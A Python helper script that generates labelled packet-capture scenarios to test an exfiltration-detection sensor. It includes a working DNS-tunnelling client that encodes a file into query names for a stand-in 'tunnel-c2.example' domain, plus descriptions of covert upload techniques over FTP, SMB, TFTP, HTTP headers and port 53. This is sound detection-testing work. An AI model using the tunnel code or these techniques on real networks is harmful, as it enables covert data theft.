#!/usr/bin/env python3
"""Small servers/clients and bookkeeping for scripts/gen-scenarios.sh (stdlib only).

Subcommands:
  mkfile PATH SIZE SEED         random.Random(SEED).randbytes(SIZE) into PATH
  mktext PATH SIZE SEED         SIZE bytes of plain text (72-column lines of words)
  b64 SIZE SEED                 base64 of SIZE seeded random bytes, on stdout
  http-server --bind A --port P --dir D [--clock LOCAL-ISO]
                                HTTP/1.1 file server that also stores POST bodies;
                                its Date headers count from LOCAL-ISO at start-up
  raw-server --bind A --port P --reply-size N --seed S
                                one TCP connection: read to EOF, reply N bytes, close
  raw-client --server A --port P --size N --seed S
                                send N random bytes, shut down writing, read the reply
  udp-server --bind A --port P --count N --reply-size M --seed S
                                answer N datagrams with M-byte datagrams, then exit
  udp-client --server A --port P --count N --size M --seed S
                                N datagrams of M random bytes from one socket, each
                                answered before the next
  dns-tunnel --server A --port P --file F --domain D [--chunk 50]
                                one query per 50-character chunk of base32(F):
                                <chunk>.<seq>.D, alternately type A and TXT
  mail-check --maildir D --count N [--attachment F ...]
                                the aiosmtpd Mailbox handler stored N messages, and
                                each F as the content of some attachment
  delta PCAP LOCAL-ISO          seconds (6 decimals) to add so PCAP's first packet
                                falls at LOCAL-ISO (e.g. 2026-03-10T10:00:00+01:00)
  docs --dir D                  write D/manifest.json and D/README.md
  check --sensor BIN --dir D    run the sensor on every pcap of the manifest and check
                                app_proto, addresses and first-packet time
Every network operation has a timeout; servers exit by themselves.
"""
import argparse
import base64
import datetime
import email.utils
import json
import mailbox
import os
import random
import socket
import struct
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import capture_common  # noqa: E402
from capture_common import mkfile  # noqa: E402

# ---------------------------------------------------------------- scenario metadata
# One entry per pcap in pcaps/scenarios/; gen-scenarios.sh makes the captures with
# exactly these addresses and times, `docs` writes manifest.json and README.md from
# it, `check` compares the sensor's view with it. `app_protos` (the app_proto values
# expected on the flow events that carry payload) is for `check` only and is not
# written to the manifest.

BIZ = "2026-03-10T10:00:00+01:00"  # Tue, business hours (09:00 UTC)
OFF = "2026-03-08T03:00:00+01:00"  # Sun, off hours (02:00 UTC)

SCENARIOS = [
    {
        "file": "an1173-ftp-upload.pcap",
        "scenario": "ftp-upload",
        "kind": "positive",
        "intended_analytics": ["AN1173"],
        "hosts": {"workstation": "10.20.0.11", "external_ftp_server": "203.0.113.50"},
        "local_time": BIZ,
        "app_protos": ["ftp", "ftp-data"],
        "description": "A workstation logs in to an external vsftpd on port 21 (USER anonymous, PWD, "
        "CWD upload, PASV announcing 203.0.113.50, TYPE I), uploads q1-customers.tar.gz "
        "(1 MiB) with STOR and QUITs: a large upload to the internet over FTP, which "
        "should alert.",
    },
    {
        "file": "an1173-ftp-port80.pcap",
        "scenario": "ftp-port80",
        "kind": "positive",
        "intended_analytics": ["AN1173"],
        "hosts": {"workstation": "10.20.0.12", "external_ftp_server": "203.0.113.51"},
        "local_time": BIZ,
        "app_protos": ["ftp", "ftp-data"],
        "description": "A workstation talks FTP (vsftpd) to an external server on port 80 and "
        "uploads notes.7z (200 KiB) with STOR over an EPSV data connection: FTP hidden on "
        "the HTTP port (app_proto ftp where http is expected), which should alert.",
    },
    {
        "file": "an1173-tftp-put.pcap",
        "scenario": "tftp-put",
        "kind": "positive",
        "intended_analytics": ["AN1173"],
        "hosts": {"workstation": "10.20.0.13", "external_tftp_server": "203.0.113.69"},
        "local_time": BIZ,
        "app_protos": ["tftp"],
        "description": "A workstation sends a WRQ for router-configs.bin to an external tftpd-hpa "
        "on 69/udp and writes 800 KiB in 512-byte octet-mode blocks over the server's new "
        "ephemeral port: a TFTP upload to the internet, which should alert.",
    },
    {
        "file": "an1173-smb-put.pcap",
        "scenario": "smb-put",
        "kind": "positive",
        "intended_analytics": ["AN1173"],
        "hosts": {"workstation": "10.20.0.14", "external_smb_server": "203.0.113.45"},
        "local_time": BIZ,
        "app_protos": ["smb"],
        "description": "A workstation connects with smbclient (SMB 3.1.1, NTLMSSP user smbtest) to "
        "\\\\203.0.113.45\\upload on an external samba at port 445 and writes "
        "hr-export.zip (1 MiB): an SMB upload to the internet, which should alert.",
    },
    {
        "file": "an1173-smb-8445.pcap",
        "scenario": "smb-8445",
        "kind": "positive",
        "intended_analytics": ["AN1173"],
        "hosts": {"workstation": "10.20.0.14", "external_smb_server": "203.0.113.46"},
        "local_time": BIZ,
        "app_protos": ["smb"],
        "description": "A workstation writes payroll.xlsx (100 KiB) with smbclient to "
        "\\\\203.0.113.46\\upload on an external samba listening on the non-standard port "
        "8445: SMB on an unexpected port to the internet, which should alert.",
    },
    {
        "file": "an0367-smtp-offhours.pcap",
        "scenario": "smtp-offhours",
        "kind": "positive",
        "intended_analytics": ["AN0367"],
        "hosts": {"workstation": "10.20.0.12", "external_smtp_server": "203.0.113.25"},
        "local_time": OFF,
        "app_protos": ["smtp"],
        "description": "At 03:00 on a Sunday a workstation sends one mail directly to an external "
        "SMTP server (aiosmtpd) on port 25 with swaks, carrying contracts.zip (800 KiB, "
        "base64): a large mail outside business hours, which should alert.",
    },
    {
        "file": "an0367-dns-tunnel.pcap",
        "scenario": "dns-tunnel",
        "kind": "positive",
        "intended_analytics": ["AN0367"],
        "hosts": {"workstation": "10.20.0.13", "external_dns_server": "198.51.100.53"},
        "local_time": BIZ,
        "app_protos": ["dns"],
        "description": "A workstation sends 1311 DNS queries from one UDP socket to an external "
        "dnsmasq, named <50 base32 chars>.<seq>.t.tunnel-c2.example and together carrying a "
        "40 KiB file (A queries answered 198.51.100.99, TXT queries NOERROR without data): "
        "data tunnelled in query names to one domain, which should alert.",
    },
    {
        "file": "baseline-ws16-smtp.pcap",
        "scenario": "smtp-volume-ws16",
        "kind": "baseline",
        "intended_analytics": ["AN0367"],
        "hosts": {
            "workstation": "10.20.0.16",
            "external_smtp_server": "203.0.113.26",
            "web_server": "198.51.100.80",
            "workstation_11": "10.20.0.11",
            "workstation_12": "10.20.0.12",
            "workstation_13": "10.20.0.13",
            "workstation_14": "10.20.0.14",
            "workstation_15": "10.20.0.15",
        },
        "local_time": "2026-02-10T10:00:00+01:00",
        "app_protos": ["smtp", "http"],
        "description": "Four Tuesdays (2026-02-10, 02-17, 02-24, 03-03) of history: at 10:00 the "
        "workstation sends its usual 4 KiB mail to the external SMTP server (one capture "
        "copied four times) and at 10:05 workstations .11-.15 each GET a small page from "
        "198.51.100.80: the learning period for the volume anomaly, not meant to alert "
        "itself.",
    },
    {
        "file": "an0367-smtp-volume.pcap",
        "scenario": "smtp-volume-ws16",
        "kind": "positive",
        "intended_analytics": ["AN0367"],
        "hosts": {"workstation": "10.20.0.16", "external_smtp_server": "203.0.113.26"},
        "local_time": BIZ,
        "app_protos": ["smtp"],
        "description": "After the baseline, the workstation sends one mail to the same external SMTP "
        "server at its usual time, but with design-archive.zip (1 MiB) attached: far above "
        "its learned 4 KiB, which should alert (replay after baseline-ws16-smtp.pcap).",
    },
    {
        "file": "neg-smtp-usual.pcap",
        "scenario": "smtp-volume-ws16",
        "kind": "negative",
        "intended_analytics": [],
        "hosts": {"workstation": "10.20.0.16", "external_smtp_server": "203.0.113.26"},
        "local_time": BIZ,
        "app_protos": ["smtp"],
        "description": "After the baseline, the workstation sends a 5 KiB plain-text mail to the same "
        "external SMTP server at its usual time: in line with its history, which should not "
        "alert (replay after baseline-ws16-smtp.pcap).",
    },
    {
        "file": "an0423-staging.pcap",
        "scenario": "staging",
        "kind": "positive",
        "intended_analytics": ["AN0423"],
        "hosts": {
            "workstation": "10.20.0.15",
            "internal_file_server": "10.10.0.5",
            "external_web_server": "198.51.100.81",
        },
        "local_time": BIZ,
        "app_protos": ["smb", "http"],
        "description": "A workstation reads q2-roadmap.7z (1 MiB) from \\\\10.10.0.5\\projects with "
        "smbclient at 10:00 and three minutes later POSTs the same bytes with curl to "
        "http://files.example-share.net/upload on an external server: internal collection "
        "followed by an upload of the same size, which should alert.",
    },
    {
        "file": "an0030-raw-4444.pcap",
        "scenario": "raw-4444",
        "kind": "positive",
        "intended_analytics": ["AN0030"],
        "hosts": {"workstation": "10.20.0.17", "external_server": "203.0.113.44"},
        "local_time": BIZ,
        "app_protos": ["failed"],
        "description": "A workstation opens a TCP connection to an external host on port 4444, "
        "sends 1 MiB of random bytes, gets a 16-byte reply and closes: a large upload in no "
        "known protocol, which should alert.",
    },
    {
        "file": "an0030-http-header-stuffing.pcap",
        "scenario": "http-header-stuffing",
        "kind": "positive",
        "intended_analytics": ["AN0030"],
        "hosts": {"workstation": "10.20.0.18", "external_web_server": "198.51.100.82"},
        "local_time": BIZ,
        "app_protos": ["http"],
        "description": "A workstation sends 30 small GET requests (curl, one connection each, 0.5 s "
        "apart) to an external python http.server, each with an X-Session header of 2048 "
        "base64 characters of random data: data smuggled in HTTP headers, which should "
        "alert.",
    },
    {
        "file": "an0030-non-dns-53.pcap",
        "scenario": "non-dns-53",
        "kind": "positive",
        "intended_analytics": ["AN0030"],
        "hosts": {"workstation": "10.20.0.19", "external_server": "203.0.113.53"},
        "local_time": BIZ,
        "app_protos": ["failed"],
        "description": "A workstation sends 400 datagrams of 1000 random bytes from one socket to "
        "an external host's port 53/udp, each answered by an 8-byte datagram: a non-DNS "
        "protocol on the DNS port carrying 400 KB out, which should alert.",
    },
    {
        "file": "neg-backup-allowlisted.pcap",
        "scenario": "backup-allowlisted",
        "kind": "negative",
        "intended_analytics": [],
        "hosts": {"backup_server": "10.10.0.9", "external_ftp_server": "198.51.100.10"},
        "local_time": OFF,
        "app_protos": ["ftp", "ftp-data"],
        "description": "At 03:00 on a Sunday the backup server uploads nightly-2026-03-08.tar.gz "
        "(1.2 MiB) with STOR to an external vsftpd on port 21: a sanctioned nightly backup "
        "that the test configuration allowlists, which should not alert.",
    },
    {
        "file": "neg-internal-smb-copy.pcap",
        "scenario": "internal-smb-copy",
        "kind": "negative",
        "intended_analytics": [],
        "hosts": {"workstation": "10.20.0.11", "internal_file_server": "10.10.0.5"},
        "local_time": BIZ,
        "app_protos": ["smb"],
        "description": "A workstation writes budget-2026.xlsx (1 MiB) with smbclient to "
        "\\\\10.10.0.5\\projects on the internal file server: a copy that never leaves "
        "home_net, which should not alert.",
    },
    {
        "file": "neg-large-download.pcap",
        "scenario": "large-download",
        "kind": "negative",
        "intended_analytics": [],
        "hosts": {"workstation": "10.20.0.11", "external_web_server": "198.51.100.80"},
        "local_time": BIZ,
        "app_protos": ["http"],
        "description": "A workstation downloads installer-1.2.bin (1.2 MiB) with curl GET from "
        "http://downloads.example.net on an external server: a large transfer into the "
        "network, not out of it, which should not alert.",
    },
    {
        "file": "neg-normal-dns.pcap",
        "scenario": "normal-dns",
        "kind": "negative",
        "intended_analytics": [],
        "hosts": {"workstation": "10.20.0.13", "external_dns_server": "198.51.100.53"},
        "local_time": BIZ,
        "app_protos": ["dns"],
        "description": "A workstation sends 40 ordinary queries with dig (A, AAAA and MX for names "
        "like www.example.com and mail.example.org, about 1.5 s apart) to the external "
        "dnsmasq and gets normal answers: everyday DNS, which should not alert.",
    },
    {
        "file": "neg-mail-relay.pcap",
        "scenario": "mail-relay",
        "kind": "negative",
        "intended_analytics": [],
        "hosts": {"mail_relay": "10.10.0.25", "external_smtp_server": "203.0.113.25"},
        "local_time": BIZ,
        "app_protos": ["smtp"],
        "description": "The internal mail relay delivers 5 mails of about 200 KiB each (one SMTP "
        "session per mail, a 151000-byte PDF attachment each) to an external SMTP server: the "
        "sanctioned relay that the test configuration lists, which should not alert.",
    },
]


# ---------------------------------------------------------------- content
WORDS = (
    "the project team report meeting schedule update review budget plan draft status "
    "customer order delivery invoice quarter result numbers please find attached below "
    "thanks regards next week monday tuesday office call agenda notes action items owner "
    "deadline release version test data summary feedback question answer follow up"
).split()


def mktext(path, size, seed):
    """Exactly SIZE bytes of CRLF-free plain text in lines of at most 72 characters."""
    rnd = random.Random(seed)
    out, line = [], ""
    total = 0
    while total < size:
        w = rnd.choice(WORDS)
        if len(line) + 1 + len(w) > 72:
            out.append(line + "\n")
            total += len(line) + 1
            line = ""
        line = w if not line else line + " " + w
    text = "".join(out)[:size - 1] + "\n"
    with open(path, "w") as f:
        f.write(text)


def b64(size, seed):
    print(base64.b64encode(random.Random(seed).randbytes(size)).decode())


# ---------------------------------------------------------------- http server
class Handler(capture_common.UploadHandler):
    server_version = "nginx"

    def date_time_string(self, timestamp=None):
        if timestamp is None and self.server.clock is not None:
            base, t0 = self.server.clock
            return email.utils.formatdate(base + time.time() - t0, usegmt=True)
        return super().date_time_string(timestamp)

    def upload_reply(self, stored):
        return 200, "application/json", b'{"status":"ok","stored":%d}\n' % stored


def http_server(bind, port, directory, lifetime, clock):
    clock = (iso_to_us(clock) / 1e6, time.time()) if clock else None
    capture_common.serve_http(Handler, bind, port, directory, lifetime, clock=clock)


# ---------------------------------------------------------------- raw TCP / UDP
def raw_server(bind, port, reply_size, seed, out, lifetime):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((bind, port))
    ls.listen(1)
    ls.settimeout(lifetime)
    c, _ = ls.accept()
    c.settimeout(10)
    with open(out, "wb") as f:
        while True:
            b = c.recv(65536)
            if not b:
                break
            f.write(b)
    c.sendall(random.Random(seed).randbytes(reply_size))
    c.close()
    ls.close()


def raw_client(server, port, size, seed):
    data = random.Random(seed).randbytes(size)
    reply = capture_common.send_read_reply((server, port), data)
    print("raw-client: sent %d bytes, got %d" % (size, len(reply)))


def udp_server(bind, port, count, reply_size, seed, lifetime):
    rnd = random.Random(seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((bind, port))
    s.settimeout(1)
    deadline = time.monotonic() + lifetime
    done = 0
    while done < count and time.monotonic() < deadline:
        try:
            _, addr = s.recvfrom(65535)
        except socket.timeout:
            continue
        s.sendto(rnd.randbytes(reply_size), addr)
        done += 1
    s.close()


def udp_client(server, port, count, size, seed, gap):
    rnd = random.Random(seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect((server, port))
    for _ in range(count):
        s.send(rnd.randbytes(size))
        s.recv(65535)
        if gap:
            time.sleep(gap)
    s.close()


# ---------------------------------------------------------------- DNS tunnel client
def dns_query(qid, name, qtype):
    hdr = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)  # RD
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return hdr + q + struct.pack(">HH", qtype, 1)


def dns_tunnel(server, port, path, domain, chunk, seed, gap):
    with open(path, "rb") as f:
        enc = base64.b32encode(f.read()).decode().rstrip("=").lower()
    chunks = [enc[i:i + chunk] for i in range(0, len(enc), chunk)]
    rnd = random.Random(seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((server, port))
    answered = 0
    for seq, c in enumerate(chunks):
        qid = rnd.randrange(65536)
        qtype = 16 if seq % 2 else 1  # TXT / A
        s.send(dns_query(qid, "%s.%d.%s" % (c, seq, domain), qtype))
        for _ in range(3):  # skip a late answer to an earlier query, if any
            try:
                r = s.recv(4096)
            except socket.timeout:
                break
            if len(r) >= 2 and struct.unpack(">H", r[:2])[0] == qid:
                answered += 1
                break
        if gap:
            time.sleep(gap)
    s.close()
    print("dns-tunnel: %d queries, %d answered" % (len(chunks), answered))
    if answered != len(chunks):
        sys.exit("dns-tunnel: not every query was answered")


# ---------------------------------------------------------------- mail check
def mail_check(maildir, count, attachments):
    msgs = capture_common.maildir_messages(maildir)
    if len(msgs) != count:
        sys.exit("mail-check: %d messages, expected %d" % (len(msgs), count))
    for path in attachments or []:
        if not capture_common.carries_attachment(msgs, path):
            sys.exit("mail-check: no message carries %s as attachment" % path)
    sizes = sorted(len(m.as_bytes()) for m in mailbox.Maildir(maildir, create=False))
    print("mail-check: %d messages, sizes %s" % (len(msgs), sizes))


# ---------------------------------------------------------------- pcap times
def pcap_first_ts_us(path):
    """First packet's timestamp in microseconds (classic pcap, us or ns)."""
    with open(path, "rb") as f:
        hdr = f.read(24)
        magic = hdr[:4]
        if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
            end = "<"
        elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
            end = ">"
        else:
            raise SystemExit("%s: not a classic pcap file" % path)
        nano = magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d")
        rec = f.read(16)
        if len(rec) < 16:
            raise SystemExit("%s: no packet" % path)
        sec, frac = struct.unpack(end + "II", rec[:8])
        return sec * 1_000_000 + (frac // 1000 if nano else frac)


def iso_to_us(iso):
    return int(datetime.datetime.fromisoformat(iso).timestamp()) * 1_000_000


def delta(path, iso):
    d = iso_to_us(iso) - pcap_first_ts_us(path)
    sign = "-" if d < 0 else ""
    d = abs(d)
    print("%s%d.%06d" % (sign, d // 1_000_000, d % 1_000_000))


# ---------------------------------------------------------------- docs
REGEN = "scripts/gen-scenarios.sh"


def docs(directory):
    manifest = [{k: s[k] for k in ("file", "scenario", "kind", "intended_analytics", "hosts",
                                   "local_time", "description")} for s in SCENARIOS]
    with open(os.path.join(directory, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=2, ensure_ascii=False)
        f.write("\n")
    lines = [
        "# Detector scenario captures",
        "",
        "Captures for the exfiltration analytics (AN0030, AN0367, AN0423, AN1173): positives that",
        "should alert, negatives that should not, and a baseline to replay first. Each one is",
        "real servers and clients (vsftpd, tftpd-hpa, samba, aiosmtpd, dnsmasq, python",
        "http.server and sockets; curl, tftp-hpa, smbclient, swaks, dig) talking over loopback",
        "inside a private network namespace (lo at MTU 1500, segmentation offloads off, so",
        "frames are at most 1514 bytes), captured with tcpdump, then rewritten:",
        "",
        "- addresses: each host ran on its own loopback address (10.A.B.C on 127.A.B.C,",
        "  203.0.113.N on 127.113.0.N, 198.51.100.N on 127.100.0.N; a local route with a `src`",
        "  hint made every client and server socket use the right one) and `tcprewrite --pnat`",
        "  maps them to the addresses below; `--fixcsum` recomputes the checksums. Names and",
        "  addresses inside the payload (FTP 227 reply, SMB UNC paths, HTTP Host) already carry",
        "  the rewritten address or a host name, never a loopback address;",
        "- time: `editcap -t` moves the first packet of each capture to the stated local time",
        "  (Europe/Berlin, CET = UTC+1 in February/March 2026); captures with several parts",
        "  (baseline, staging) are shifted part by part and joined with `mergecap`.",
        "",
        "Business hours are Mon-Fri 08:00-18:00 Europe/Berlin: Tue 2026-03-10 10:00 is inside,",
        "Sun 2026-03-08 03:00 is outside. home_net is 10.0.0.0/8. Transfer contents are",
        "`random.Random(seed).randbytes(n)` with fixed seeds, so payloads are the same on every",
        "run; timestamps within a capture, ephemeral ports, TCP sequence numbers, DNS ids",
        "differ. Clocks inside the payload follow the scenario where the generator controls",
        "them: mail Date and Message-Id headers (the baseline's copied mail carries the first",
        "week's in all four copies) and HTTP Date headers; SMB file times and the SMB2",
        "NEGOTIATE system time keep the generation time. Transfers run at loopback speed",
        "(1 MiB in a few milliseconds).",
        "`manifest.json` holds the table below as JSON (file, scenario, kind,",
        "intended_analytics, hosts, local_time, description).",
        "",
        "Regenerate (as root, from the repository root; installs missing Debian packages;",
        "about three minutes, one of them the paced queries of `neg-normal-dns.pcap`):",
        "",
        "```sh",
        REGEN + "                      # every capture, manifest.json and this README",
        REGEN + " dns-tunnel staging   # only some scenarios (names in --help)",
        REGEN + " --check              # then check each pcap with target/release/exfil-sensor",
        "```",
        "",
        "Replay `baseline-ws16-smtp.pcap` before `an0367-smtp-volume.pcap` or",
        "`neg-smtp-usual.pcap` (e.g. `exfil-sensor -r baseline-ws16-smtp.pcap -r an0367-smtp-volume.pcap`).",
        "",
        "Sizes: the transfers are the sizes named in each description (1 MiB and 1.2 MiB",
        "uploads, an 800 KiB TFTP put, ...), about 16 MB of captures in all; SMTP attachments",
        "travel base64-encoded (x1.37 on the wire).",
        "",
        "Notes for test configurations: at the sensor's default `app.stream_depth_kb = 1024`",
        "the parsers see only the first MiB of each direction, so the 1 MiB SMB write ends",
        "with fileinfo `state: TRUNCATED`, the 800 KiB / 1 MiB SMTP attachments are reported",
        "as about 748 KiB (`message_bytes` 1048471, `status: BODY_STARTED`) and the 1 MiB",
        "HTTP POST body as 1048417 bytes; flow byte counts and ftp-data / TFTP transfers are",
        "always complete. With `--set app.stream_depth_kb=4096` every file and message is",
        "reported whole. The TFTP transfer flow starts with the server's ACK from its new",
        "port, so the sensor's flow event has the server as `src_ip` (`direction: inbound`)",
        "while its `tftp`/`fileinfo` events say `direction: upload`.",
        "",
        "| file | scenario | kind | analytics | hosts | local time | description |",
        "| --- | --- | --- | --- | --- | --- | --- |",
    ]
    for s in SCENARIOS:
        hosts = "<br>".join("%s %s" % (r, ip) for r, ip in s["hosts"].items())
        lines.append("| `%s` | %s | %s | %s | %s | %s | %s |" % (
            s["file"], s["scenario"], s["kind"], ", ".join(s["intended_analytics"]) or "-",
            hosts, s["local_time"], s["description"].replace("|", "\\|")))
    with open(os.path.join(directory, "README.md"), "w") as f:
        f.write("\n".join(lines) + "\n")


# ---------------------------------------------------------------- check with the sensor
def check(sensor, directory, files):
    bad = 0
    for s in SCENARIOS:
        if files and s["file"] not in files:
            continue
        path = os.path.join(directory, s["file"])
        if not os.path.exists(path):
            print("MISSING %s" % s["file"])
            bad += 1
            continue
        out = subprocess.run([sensor, "-r", path], capture_output=True, timeout=120, text=True)
        if out.returncode != 0:
            print("FAIL %s: sensor exit %d: %s" % (s["file"], out.returncode, out.stderr[-300:]))
            bad += 1
            continue
        events = [json.loads(l) for l in out.stdout.splitlines() if l.strip()]
        flows = [e for e in events if e.get("event_type") == "flow"]
        protos = sorted({f.get("app_proto") for f in flows if f.get("app_proto")})
        ips = {f["src_ip"] for f in flows} | {f["dest_ip"] for f in flows}
        starts = sorted(f["flow"]["start"] for f in flows)
        problems = []
        want = set(s["hosts"].values())
        if not ips <= want:
            problems.append("addresses not in manifest: %s" % sorted(ips - want))
        if set(protos) != set(s["app_protos"]):
            problems.append("app_proto %s, expected %s" % (protos, s["app_protos"]))
        first_us = pcap_first_ts_us(path)
        if first_us != iso_to_us(s["local_time"]):
            problems.append("first packet at %s, expected %s" % (
                datetime.datetime.fromtimestamp(first_us / 1e6, datetime.timezone.utc).isoformat(),
                s["local_time"]))
        want_start = datetime.datetime.fromisoformat(s["local_time"]).astimezone(
            datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000+0000")
        if not starts or starts[0] != want_start:
            problems.append("first flow start %s, expected %s" % (starts[:1], want_start))
        per = {}
        for f in flows:
            k = (f.get("app_proto") or "-", f["proto"], f["src_ip"], f["dest_ip"],
                 f["dest_port"] if f.get("app_proto") not in ("ftp-data", "tftp")
                 or f["dest_port"] < 1024 else "eph")
            c = per.setdefault(k, [0, 0, 0])
            c[0] += 1
            c[1] += f["flow"]["bytes_toserver"]
            c[2] += f["flow"]["bytes_toclient"]
        status = "OK  " if not problems else "FAIL"
        bad += bool(problems)
        print("%s %s (%d flows, first %s)" % (status, s["file"], len(flows), starts[0] if starts else "-"))
        for k, c in sorted(per.items(), key=lambda kv: str(kv[0])):
            print("       %-8s %s %s -> %s:%s  flows=%d toserver=%d toclient=%d" % (k + tuple(c)))
        for p in problems:
            print("       problem: %s" % p)
    return bad


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    capture_common.add_mkfile_parser(sub)
    p = sub.add_parser("mktext")
    p.add_argument("path")
    p.add_argument("size", type=int)
    p.add_argument("seed", type=int)
    p = sub.add_parser("b64")
    p.add_argument("size", type=int)
    p.add_argument("seed", type=int)
    p = sub.add_parser("http-server")
    p.add_argument("--bind", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--dir", required=True)
    p.add_argument("--lifetime", type=float, default=120)
    p.add_argument("--clock")
    p = sub.add_parser("raw-server")
    p.add_argument("--bind", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--reply-size", type=int, default=16)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--out", required=True)
    p.add_argument("--lifetime", type=float, default=60)
    p = sub.add_parser("raw-client")
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--size", type=int, required=True)
    p.add_argument("--seed", type=int, required=True)
    p = sub.add_parser("udp-server")
    p.add_argument("--bind", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--reply-size", type=int, default=8)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--lifetime", type=float, default=60)
    p = sub.add_parser("udp-client")
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--size", type=int, required=True)
    p.add_argument("--seed", type=int, required=True)
    p.add_argument("--gap", type=float, default=0.0)
    p = sub.add_parser("dns-tunnel")
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, default=53)
    p.add_argument("--file", required=True)
    p.add_argument("--domain", required=True)
    p.add_argument("--chunk", type=int, default=50)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--gap", type=float, default=0.0)
    p = sub.add_parser("mail-check")
    p.add_argument("--maildir", required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--attachment", action="append")
    p = sub.add_parser("delta")
    p.add_argument("pcap")
    p.add_argument("local_time")
    p = sub.add_parser("docs")
    p.add_argument("--dir", required=True)
    p = sub.add_parser("check")
    p.add_argument("--sensor", required=True)
    p.add_argument("--dir", required=True)
    p.add_argument("files", nargs="*")
    a = ap.parse_args()

    if a.cmd == "mkfile":
        mkfile(a.path, a.size, a.seed)
    elif a.cmd == "mktext":
        mktext(a.path, a.size, a.seed)
    elif a.cmd == "b64":
        b64(a.size, a.seed)
    elif a.cmd == "http-server":
        http_server(a.bind, a.port, a.dir, a.lifetime, a.clock)
    elif a.cmd == "raw-server":
        raw_server(a.bind, a.port, a.reply_size, a.seed, a.out, a.lifetime)
    elif a.cmd == "raw-client":
        raw_client(a.server, a.port, a.size, a.seed)
    elif a.cmd == "udp-server":
        udp_server(a.bind, a.port, a.count, a.reply_size, a.seed, a.lifetime)
    elif a.cmd == "udp-client":
        udp_client(a.server, a.port, a.count, a.size, a.seed, a.gap)
    elif a.cmd == "dns-tunnel":
        dns_tunnel(a.server, a.port, a.file, a.domain, a.chunk, a.seed, a.gap)
    elif a.cmd == "mail-check":
        mail_check(a.maildir, a.count, a.attachment)
    elif a.cmd == "delta":
        delta(a.pcap, a.local_time)
    elif a.cmd == "docs":
        docs(a.dir)
    elif a.cmd == "check":
        sys.exit(1 if check(a.sensor, a.dir, a.files) else 0)


if __name__ == "__main__":
    main()
